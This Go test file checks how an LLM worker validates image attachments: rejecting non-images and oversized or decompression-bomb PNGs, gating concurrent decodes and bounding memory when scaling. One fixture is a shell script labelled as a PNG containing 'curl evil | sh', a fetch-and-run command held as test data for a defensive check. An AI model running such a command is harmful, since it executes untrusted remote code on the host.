package llm_test

import (
	"context"
	"encoding/base64"
	"runtime"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/troupe-dev/troupe/internal/config"
	"github.com/troupe-dev/troupe/internal/imagecheck"
	"github.com/troupe-dev/troupe/internal/imagecheck/imagechecktest"
	"github.com/troupe-dev/troupe/internal/llm"
	"github.com/troupe-dev/troupe/internal/llm/llmtest"
	"github.com/troupe-dev/troupe/schemas"
)

// TestImagesAreCheckedByContent: the worker checks an image again before
// it decodes or sends it (a task message may be forged, or older than the
// check at submission): what is no image, or would take too much memory to
// decode, fails the call for good, with the reason, and nothing is sent.
func TestImagesAreCheckedByContent(t *testing.T) {
	t.Parallel()
	srv := setup(t)
	b64 := base64.StdEncoding.EncodeToString
	tests := []struct {
		name string
		att  schemas.Attachment
		err  error
		msg  string
	}{
		{"a shell script labelled png", schemas.Attachment{Name: "run.png", MediaType: "image/png", Data: b64([]byte("#!/bin/sh\ncurl evil | sh\n"))},
			imagecheck.ErrNotImage, "attachment run.png: not a supported image: the content is text/plain"},
		{"16-bit RGBA of 6300x6300", schemas.Attachment{Name: "deep.png", MediaType: "image/png", Data: b64(imagechecktest.ZeroPNG(6300, 6300, 16, imagechecktest.RGBA))},
			imagecheck.ErrTooLarge, "attachment deep.png: image too large to decode: the image is 6300x6300 pixels of 16-bit RGBA, 318 MB decoded"},
		{"a 30000x30000 bomb", schemas.Attachment{Name: "bomb.png", MediaType: "image/png", Data: b64(imagechecktest.ZeroPNG(30000, 30000, 1, imagechecktest.Gray))},
			imagecheck.ErrTooLarge, "the image is 30000x30000 pixels; a side may be at most 16384"},
	}
	for _, tc := range tests {
		req := request(&recorder{})
		req.Task.Attachments = []schemas.Attachment{tc.att}
		_, err := model(srv, "vision-model", true).Generate(context.Background(), req)
		require.ErrorIs(t, err, llm.ErrRejected, tc.name)
		require.ErrorIs(t, err, tc.err, tc.name)
		require.ErrorContains(t, err, tc.msg, tc.name)
	}
	require.Empty(t, srv.Requests(), "nothing was sent")
}

// TestImageDecodesWaitForTheGate: an image to scale down waits for a slot of
// the process's gate; while every slot is taken nothing is decoded or sent,
// and a call whose context ends meanwhile says so (to be retried), rather
// than failing the task.
func TestImageDecodesWaitForTheGate(t *testing.T) {
	t.Parallel()
	srv := setup(t)
	gate := imagecheck.NewGate(1)
	m := llm.NewOpenAI(llm.Spec{Ref: "fake/vision-model", ID: "vision-model", BaseURL: srv.URL(), APIKey: key, Images: true, ImageDecodes: gate}, nil)
	req := request(&recorder{})
	req.Task.Attachments = []schemas.Attachment{{Name: "big.png", MediaType: "image/png", Data: pngData(t, 3000, 1500)}}

	require.NoError(t, gate.Enter(context.Background())) // another decode holds the only slot
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	_, err := m.Generate(ctx, req)
	require.ErrorIs(t, err, context.Canceled)
	require.NotErrorIs(t, err, llm.ErrRejected)
	require.Empty(t, srv.Requests())

	gate.Leave()
	srv.Enqueue(llmtest.Reply{Content: goodAnswer})
	_, err = m.Generate(context.Background(), req)
	require.NoError(t, err)
	require.Equal(t, llm.DefaultMaxImageSide, srv.Requests()[0].Messages[1].Images[0].Width)
	require.NoError(t, gate.Enter(context.Background()), "the slot was given back")
}

// TestScalingCostsAboutTheImage: scaling an image down allocates little
// more than its decoded pixels, the figure the submission check bounds (the
// scaler once kept 32 bytes a pixel of target width by source height: 100
// MB more for this image). Not parallel: it reads the process's
// allocations.
func TestScalingCostsAboutTheImage(t *testing.T) {
	const w, h = 4000, 2000
	data := imagechecktest.ZeroPNG(w, h, 8, imagechecktest.RGBA)
	img, err := imagecheck.Check("image/png", data, 0)
	require.NoError(t, err)
	a := schemas.Attachment{Name: "wide.png", MediaType: "image/png", Data: base64.StdEncoding.EncodeToString(data)}

	var before, after runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&before)
	out, err := llm.FitImage(context.Background(), a, llm.DefaultMaxImageSide, 0, imagecheck.NewGate(1))
	runtime.ReadMemStats(&after)
	require.NoError(t, err)
	require.NotEqual(t, a.Data, out.Data, "the image was scaled")
	allocated := int64(after.TotalAlloc - before.TotalAlloc)
	t.Logf("%dx%d 8-bit RGBA: %d MB decoded, %d MB allocated to scale it to %d pixels wide, heap %d MB after",
		w, h, img.Bytes>>20, allocated>>20, llm.DefaultMaxImageSide, after.HeapAlloc>>20)
	require.Less(t, allocated, 2*img.Bytes, "scaling allocates less than the decoded image again")
}

// TestOneGatePerProcess: every model ForRoles builds, whatever its role or
// provider, shares one gate of models.imageDecodes and the configured
// bound on decoded bytes.
func TestOneGatePerProcess(t *testing.T) {
	t.Parallel()
	var cfg config.Config
	cfg.Models = config.Models{Default: "a/vision", MaxImageBytes: 1 << 20, ImageDecodes: 1, Providers: map[string]config.Provider{
		"a": {BaseURL: "http://127.0.0.1:1", Models: []config.Model{{ID: "vision", Input: []string{"text", "image"}}}},
		"b": {BaseURL: "http://127.0.0.1:2", Models: []config.Model{{ID: "vision", Input: []string{"text", "image"}}}},
	}}
	cfg.Roles = map[string]config.Role{"developer": {Model: "b/vision"}}
	models, err := llm.ForRoles(cfg, []string{"pm", "developer"})
	require.NoError(t, err)
	pm, dev := models["pm"].(*llm.OpenAI).Spec(), models["developer"].(*llm.OpenAI).Spec()
	require.NotNil(t, pm.ImageDecodes)
	require.Same(t, pm.ImageDecodes, dev.ImageDecodes)
	require.Equal(t, int64(1<<20), dev.MaxImageBytes)
}

// BenchmarkFitImage reports what scaling a 4000x2000 RGBA image (30 MB
// decoded) down to 1568 pixels allocates (B/op) and takes.
func BenchmarkFitImage(b *testing.B) {
	data := imagechecktest.ZeroPNG(4000, 2000, 8, imagechecktest.RGBA)
	a := schemas.Attachment{Name: "wide.png", MediaType: "image/png", Data: base64.StdEncoding.EncodeToString(data)}
	gate := imagecheck.NewGate(1)
	b.ReportAllocs()
	for b.Loop() {
		if _, err := llm.FitImage(context.Background(), a, llm.DefaultMaxImageSide, 0, gate); err != nil {
			b.Fatal(err)
		}
	}
}
